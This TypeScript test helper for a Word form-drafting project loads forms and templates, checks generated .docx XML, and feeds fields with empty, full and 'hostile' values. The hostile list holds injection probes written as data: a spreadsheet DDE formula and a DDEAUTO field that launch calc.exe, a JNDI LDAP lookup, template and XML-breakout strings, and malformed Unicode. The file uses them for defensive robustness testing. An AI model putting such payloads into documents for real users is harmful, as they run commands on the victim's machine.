import { join } from 'node:path'
import PizZip from 'pizzip'
import { nameBasis } from '../../src/app-forms.ts'
import type { FormDescription, FormValues } from '../../src/domain/form/form.ts'
import { createPassageIndex } from '../../src/retrieval/knowledge/create-passage-index.ts'
import { loadKnowledge } from '../../src/retrieval/knowledge/load-knowledge.ts'
import { loadForms } from '../../src/skills/draft-form/load-forms.ts'
import { loadTemplates } from '../../src/skills/draft-form/load-templates.ts'

const knowledgeFolder = join(import.meta.dirname, '../../knowledge')
const formsFolder = join(knowledgeFolder, 'forms')

/** The project's own forms, their templates, and what they rest on. */
export async function openForms(folder = formsFolder) {
  const index = createPassageIndex(await loadKnowledge(knowledgeFolder))
  const forms = await loadForms(formsFolder)
  const notices: string[] = []
  const templates = await loadTemplates(forms.values(), {
    folder,
    nameBasis: form => nameBasis(form, index),
    onNotice: notice => void notices.push(notice),
  })
  return { index, forms, templates, notices }
}

const HOSTILE = [
  '</w:t></w:r><w:p><w:r><w:t>插入</w:t></w:r></w:p>',
  '&lt;&#0;&amp;nbsp;]]><!-- <?xml ?>',
  '=cmd|"/c calc"!A1',
  '{ HYPERLINK "https://evil.example" } DDEAUTO c:\\\\windows\\\\calc.exe',
  '{申请人}{#loop}{/loop}{@raw}{constructor}',
  '\u0000\u0001\u001b\u202e反向\u200b\ud800',
  ['{{7*7}} $', '{jndi:ldap://x} \\field{\\*\\fldinst{INCLUDETEXT}}'].join(''),
  '第一行\r\n第二行\n\n\n\n第三行\u2028第四行',
  '𠮷龘䶮𬍛😀（名字里的生僻字）',
  'x'.repeat(400),
  '长'.repeat(1500),
] as const

export const fillings: Readonly<Record<string, (form: FormDescription) => FormValues>> = {
  empty: () => ({}),
  full: form =>
    Object.fromEntries(form.fields.map(({ label, options, kind }) => [label, options[0] ?? toSample(label, kind)])),
  hostile: form => Object.fromEntries(form.fields.map(({ label }, index) => [label, HOSTILE[index % HOSTILE.length]!])),
}

const toSample = (label: string, kind: string): string =>
  kind === 'long' ? `这里写${label}的经过，有日期、金额和凭证。`.repeat(12) : `某${label}（示例）`

/** Parts of a Word file that are XML, by name. */
export const readXmlParts = (docx: Uint8Array): Readonly<Record<string, string>> =>
  Object.fromEntries(
    Object.values(new PizZip(docx).files)
      .filter(file => /\.(xml|rels)$/.test(file.name))
      .map(file => [file.name, file.asText()]),
  )

/** What the body of a Word file says, one line a paragraph. */
export const readDocxText = (docx: Uint8Array): string =>
  readXmlParts(docx)
    ['word/document.xml']!.replace(/<w:br\/>|<\/w:p>/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(
      /&(lt|gt|quot|apos|amp);/g,
      (_, name: string) => ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' })[name]!,
    )

/** Why a text is not well-formed XML; `null` when it is. Enough for what this project writes: no DTD, no CDATA. */
export function findXmlFault(xml: string): string | null {
  const open: string[] = []
  const text = xml.replace(/^<\?xml[^>]*\?>\s*/, '')
  const control = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/.exec(text)
  if (control) return `control character at ${control.index}`
  if (!text.isWellFormed()) return 'half a surrogate pair'
  const rest = text.replace(
    /<(\/?)([\w:]+)((?:\s+[\w:]+="[^"<]*")*)\s*(\/?)>/g,
    (_, closes, name, _attributes, empty) => {
      if (closes && open.pop() !== name) open.push(`</${name}> closes nothing`)
      else if (!closes && !empty) open.push(name)
      return ''
    },
  )
  const stray = /<|>(?=[^<]*$)|&(?!(lt|gt|amp|quot|apos|#\d+|#x[\da-f]+);)/i.exec(rest.replaceAll('>', ''))
  if (stray) return `stray ${stray[0]} at ${rest.slice(stray.index, stray.index + 30)}`
  return open.length > 0 ? `open: ${open.join()}` : null
}
